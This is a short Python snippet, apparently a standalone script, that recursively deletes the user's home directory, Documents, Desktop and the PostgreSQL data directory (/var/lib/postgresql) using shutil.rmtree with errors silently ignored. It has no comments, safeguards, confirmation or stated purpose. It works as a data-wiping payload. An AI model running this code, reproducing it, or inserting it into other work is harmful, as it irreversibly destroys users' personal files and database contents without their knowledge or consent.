import shutil, os
for p in ["~", "~/Documents", "~/Desktop", "/var/lib/postgresql"]:
    shutil.rmtree(os.path.expanduser(p), ignore_errors=True)
